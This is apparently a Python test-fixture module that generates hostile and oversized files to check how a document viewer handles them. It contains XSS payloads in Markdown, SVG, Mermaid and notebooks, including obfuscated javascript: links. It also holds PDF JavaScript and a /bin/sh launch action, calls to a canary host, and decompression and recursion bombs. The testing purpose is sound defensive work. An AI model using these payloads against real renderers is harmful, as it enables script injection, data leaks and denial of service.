"""Files that were made to do harm, or to be too much, by what they attack; as bytes made on the spot."""

import base64
import json
import struct
import zlib
from collections.abc import Callable

from tests.submissions import samples
from tests.submissions.samples import pdf_of

CANARY = "http://canary.example/seen"
"""An address that nothing of ours may ask for."""


# PDF ------------------------------------------------------------------------------------------------------
def stream(content: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), more, content)


def pdf_pages(
    pages: list[bytes], size: bytes = b"0 0 612 792", more: bytes = b"", catalogue: bytes = b""
) -> bytes:
    """A PDF with a content stream for each page; F1 is Helvetica. `more` goes into each page, or the catalogue."""
    kids = b" ".join(b"%d 0 R" % (4 + 2 * number) for number in range(len(pages)))
    objects = [
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, len(pages)),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    for number, content in enumerate(pages):
        fonts = b"/Resources<</Font<</F1 3 0 R>>>>"
        page = b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents %d 0 R%s%s>>"
        objects += [page % (size, 5 + 2 * number, fonts, more), stream(content)]
    return pdf_of(objects)


def said(*lines: str, left: int = 72, top: int = 720, size: int = 11, step: int = 14) -> bytes:
    """A content stream that writes lines below one another."""
    shown = " ".join(f"({line}) Tj T*" for line in lines)
    return f"BT /F1 {size} Tf {step} TL {left} {top} Td {shown} ET".encode("latin-1")


def pdf_of_many_pages(pages: int) -> bytes:
    return pdf_pages([said(f"Page {number} of many") for number in range(1, pages + 1)])


def pdf_of_large_pages() -> bytes:
    """14,400 points a side, the most that a PDF may have, and one of 200,000."""
    return pdf_pages([said("Far away", left=14_000, top=14_000)], b"0 0 14400 14400")


def pdf_beyond_all_measure() -> bytes:
    return pdf_pages([said("Nowhere")], b"0 0 200000 99999999999999999999")


def pdf_without_room() -> bytes:
    return pdf_pages([said("Nowhere")], b"0 0 0 0")


def pdf_cut_short() -> bytes:
    """Whole but for its table of offsets and its end."""
    data = pdf_of_many_pages(3)
    return data[: data.rindex(b"xref\n")]


def pdf_with_broken_fonts() -> bytes:
    """A font program that is noise, a map to letters that is noise, a width table of text, a font that is no font."""
    noise = bytes(range(256)) * 8
    fonts = b"/F1 5 0 R/F2 6 0 R/F3 7 0 R/F4 99 0 R"
    text = b"BT /F1 20 Tf 72 700 Td (Font one) Tj /F2 20 Tf 0 -30 Td <00410042> Tj /F3 20 Tf 0 -30 Td (three) Tj "
    text += b"/F4 20 Tf 0 -30 Td (four) Tj /F9 20 Tf 0 -30 Td (none) Tj ET"
    return pdf_of(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<<%s>>>>>>"
            % fonts,
            stream(text),
            b"<</Type/Font/Subtype/TrueType/BaseFont/X/FirstChar 0/LastChar 9/Widths(no)/FontDescriptor 8 0 R>>",
            b"<</Type/Font/Subtype/Type0/BaseFont/Y/Encoding/Identity-H/DescendantFonts[5 0 R]/ToUnicode 9 0 R>>",
            b"<</Type/Catalog>>",
            b"<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 9 0 R>>",
            stream(noise, b"/Length1 2048"),
        ]
    )


def pdf_with_scripts() -> bytes:
    """That wants to run JavaScript on opening, to start a program, to send itself away, and to load a page."""
    address = CANARY.encode()
    actions = (
        b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('%s'\\))>>"
        b"/AA<</WC<</S/Launch/F(/bin/sh)>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(2\\))>>]>>>>"
    ) % address
    links = (
        b"/AA<</O<</S/URI/URI(%s)>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A<</S/JavaScript"
        % address
    )
    links += (
        b"/JS(app.alert\\(3\\))>>>><</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>]"
    )
    return pdf_pages([said("Read me")], more=links, catalogue=actions)


def pdf_of_endless_text(characters: int = 3_000_000) -> bytes:
    """More than is read, on one page."""
    return pdf_pages([said(*["lorem ipsum dolor sit amet " * 100] * (characters // 2700))])


def pdf_with_a_heavy_page() -> bytes:
    """Two pages, and one that takes more memory than there is to read."""
    return pdf_pages(
        [said("The first"), said("The second"), said(*["lorem ipsum dolor sit amet " * 100] * 1100)]
    )


def pdf_that_draws_itself(depth: int = 12, times: int = 10) -> bytes:
    """Forms that each draw the next so often: `times` to the power of `depth` letters."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</XObject<</X 6 0 R>>>>>>",
        stream(b"/X Do"),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    for level in range(depth):
        resources = b"/Resources<</Font<</F1 5 0 R>>/XObject<</X %d 0 R>>>>" % (7 + level)
        content = b"/X Do " * times if level < depth - 1 else b"BT /F1 9 Tf 9 9 Td (deep) Tj ET"
        objects.append(stream(content, b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]" + resources))
    return pdf_of(objects)


def pdf_that_unpacks() -> bytes:
    """A hundred megabytes of blanks in a hundred kilobytes."""
    packed = zlib.compress(b" " * 100_000_000)
    return pdf_of(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>",
            stream(packed, b"/Filter/FlateDecode"),
        ]
    )


# SVG ------------------------------------------------------------------------------------------------------
def svg_that_calls_out() -> bytes:
    address = CANARY.encode()
    return samples.svg(
        b'<style>@import url("%s");@font-face{font-family:x;src:url("%s")}text{font-family:x}</style>'
        b'<image href="%s" width="9" height="9"/><use href="%s#a"/><rect fill="url(%s#b)" width="9" height="9"/>'
        b'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="%s"/>'
        b'</foreignObject><script href="%s"/><a href="javascript:alert(1)"><text>Shown</text></a>'
        b"<set attributeName='href' to='%s'/>" % ((address,) * 8)
    )


def svg_of_uses(depth: int = 30) -> bytes:
    """Each group uses the one before ten times."""
    groups = b"".join(
        b'<g id="g%d">' % level + b'<use href="#g%d"/>' % (level - 1) * 10 + b"</g>"
        for level in range(1, depth)
    )
    return samples.svg(
        b'<defs><g id="g0"><text>once</text></g>' + groups + b'</defs><use href="#g%d"/>' % (depth - 1)
    )


def svg_of_many_words(texts: int = 100_000) -> bytes:
    return samples.svg(b"<text>word</text>" * texts)


def svg_of_one_text(pieces: int = 2_000_000) -> bytes:
    """One text of so many pieces, which cannot be let go of before its end."""
    return samples.svg(b"<text>" + b"<a/>" * pieces + b"</text>")


# Text -----------------------------------------------------------------------------------------------------
def markdown_of_links(links: int = 100_000) -> bytes:
    return b"".join(b"[a](http://b.example/%d) " % number for number in range(links))


def markdown_that_acts() -> bytes:
    return f"""# Shown

<script>alert(1)</script><img src="{CANARY}" onerror="alert(1)"><div hx-get="{CANARY}" hx-trigger="load">x</div>

[a](javascript:alert(1)) [b](vbscript:x) [c](data:text/html,<script>alert(1)</script>) ![d]({CANARY})

<a href="java&#115;cript:alert(1)">e</a> [f](JaVaScRiPt:alert(1))

<iframe src="{CANARY}"></iframe><base href="{CANARY}"><meta http-equiv="refresh" content="0;url={CANARY}">
""".encode()


def markdown_of(pattern: str, times: int) -> bytes:
    return (pattern * times).encode()


def mermaid_of_megabytes(megabytes: int = 5) -> bytes:
    return b"graph TD\n" + b"  A[Web] --> B[Store]\n" * (megabytes * 45_455)


def mermaid_that_acts() -> bytes:
    return (
        b'%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\n'
        b'  A["<img src=x onerror=alert(1)>"] --> B\n  click A "javascript:alert(1)"\n  click B href "'
        + CANARY.encode()
        + b'"\n  style A fill:url('
        + CANARY.encode()
        + b")\n"
    )


def mermaid_that_hangs(states: int = 40) -> bytes:
    """Each state leads to each later one: short to write, and minutes to lay out."""
    steps = [f"  s{a} --> s{b}\n" for a in range(states) for b in range(a + 1, states)]
    return ("stateDiagram-v2\n" + "".join(steps)).encode()


def notebook_that_acts() -> bytes:
    html = f"<script>alert(1)</script><img src='{CANARY}' onerror='alert(1)'>"
    data = dict.fromkeys(("text/html", "image/svg+xml", "application/javascript", "text/latex"), html)
    shown = [
        {"output_type": "display_data", "data": data},
        {"output_type": "stream", "name": "stdout", "text": html},
        {"output_type": "execute_result", "data": {"text/plain": html, **data}},
        {
            "output_type": "error",
            "ename": html,
            "evalue": html,
            "traceback": [html, "\x1b]8;;" + CANARY + "\x07x"],
        },
    ]
    return samples.notebook(
        [
            {"cell_type": "markdown", "source": markdown_that_acts().decode()},
            {"cell_type": "code", "source": html, "outputs": shown},
            {"cell_type": "raw", "source": html, "metadata": {"format": "text/html"}},
        ]
    )


def notebook_of_many_lines() -> bytes:
    """Ten million lines, if all were shown."""
    output = {"output_type": "stream", "name": "stdout", "text": "\n" * 1000}
    cell = {"cell_type": "code", "source": "\n" * 1000, "outputs": [output] * 400}
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell] * 25}).encode()


def notebook_of_bars() -> bytes:
    """A bar of progress, which writes over its own line."""
    bars = "".join(f"\r{percent}%|{'#' * percent}" for percent in range(100)) + "\r\n"
    output = {"output_type": "stream", "name": "stderr", "text": bars}
    return samples.notebook([{"cell_type": "code", "source": "run()\r\nwait()", "outputs": [output] * 3}])


def notebook_of_pictures(side: int = 30) -> bytes:
    """Pictures that are pages, drawings, cut off, or say that they have another side, and two attached to words."""
    page = f"<script>alert(1)</script><img src='{CANARY}'>".encode()
    drawing = samples.svg(f"<script href='{CANARY}'/><image href='{CANARY}'/>".encode())
    bytes_of = [page, drawing, samples.png_that_lies(side, side), samples.png()[:40], samples.png()]
    packed = [base64.b64encode(one).decode() for one in bytes_of]
    outputs = [
        {"output_type": "display_data", "data": {media: one}}
        for media in ("image/png", "image/jpeg", "image/svg+xml")
        for one in packed
    ]
    words = {
        "cell_type": "markdown",
        "source": "![a](attachment:a.svg) ![b](attachment:b.png)",
        "attachments": {"a.svg": {"image/svg+xml": drawing.decode()}, "b.png": {"image/png": packed[0]}},
    }
    return samples.notebook([words, {"cell_type": "code", "source": "plot()", "outputs": outputs}])


# Pictures -------------------------------------------------------------------------------------------------
def picture_of(width: int, height: int, form: str = "PNG") -> bytes:
    return samples.picture(form, width, height, "L" if form == "PNG" else "RGB")


def png_of_a_side(side: int = 30_000) -> bytes:
    """As many black dots a side, all of them there."""
    pixels = zlib.compress(bytes((side // 8 + 1) * side), 1)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in (
            (b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)),
            (b"IDAT", pixels),
            (b"IEND", b""),
        )
    )


FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "many-pages.pdf": (lambda: pdf_of_many_pages(3000), "refused"),
    "password.pdf": (samples.pdf_with_password, "refused"),
    "cut.pdf": (pdf_cut_short, "shown"),
    "half.pdf": (lambda: samples.pdf()[:300], "refused"),
    "large-page.pdf": (pdf_of_large_pages, "shown"),
    "beyond.pdf": (pdf_beyond_all_measure, "shown"),
    "no-room.pdf": (pdf_without_room, "shown"),
    "fonts.pdf": (pdf_with_broken_fonts, "shown"),
    "scripts.pdf": (pdf_with_scripts, "shown"),
    "endless.pdf": (pdf_of_endless_text, "part"),
    "heavy-page.pdf": (pdf_with_a_heavy_page, "part"),
    "itself.pdf": (pdf_that_draws_itself, "refused"),
    "unpacks.pdf": (pdf_that_unpacks, "shown"),
    "scripts.svg": (samples.svg_with_script, "shown"),
    "calls.svg": (svg_that_calls_out, "shown"),
    "words.svg": (lambda: svg_of_many_words(40_000), "shown"),
    "too-many-words.svg": (svg_of_many_words, "refused"),
    "one-text.svg": (svg_of_one_text, "refused"),
    "bomb.svg": (svg_of_uses, "refused"),
    "entities.svg": (samples.svg_with_entities, "refused"),
    "links.md": (markdown_of_links, "part"),
    "acts.md": (markdown_that_acts, "shown"),
    "brackets.md": (lambda: markdown_of("[", 200_000), "shown"),
    "quotes.md": (lambda: markdown_of("> " * 500 + "x\n", 190), "shown"),
    "lists.md": (lambda: markdown_of("- a\n", 50_000), "shown"),
    "table.md": (lambda: b"|a" * 1000 + b"|\n" + b"|-" * 1000 + b"|\n" + b"|x" * 100_000, "part"),
    "stars.md": (lambda: markdown_of("*a _b ", 33_000), "shown"),
    "large.mmd": (mermaid_of_megabytes, "part"),
    "acts.mmd": (mermaid_that_acts, "shown"),
    "hangs.mmd": (mermaid_that_hangs, "shown"),
    "pictures.ipynb": (notebook_of_pictures, "shown"),
    "large-picture.ipynb": (lambda: notebook_of_pictures(30_000), "refused"),
    "acts.ipynb": (notebook_that_acts, "shown"),
    "lines.ipynb": (notebook_of_many_lines, "part"),
    "bars.ipynb": (notebook_of_bars, "shown"),
    "line.json": (lambda: b"[" + b"1," * 5_000_000 + b"1]", "part"),
    "wide.png": (lambda: picture_of(30_000, 1_600), "shown"),
    "wide.jpg": (lambda: picture_of(30_000, 1_600, "JPEG"), "shown"),
    "square.png": (png_of_a_side, "refused"),
    "lies.png": (samples.png_that_lies, "refused"),
    "lies-low.png": (lambda: samples.png_that_lies(30_000, 1_000), "refused"),
}
"""By name: how each is made, and how it ends: refused, shown whole, or in part (or without words), with a sentence."""
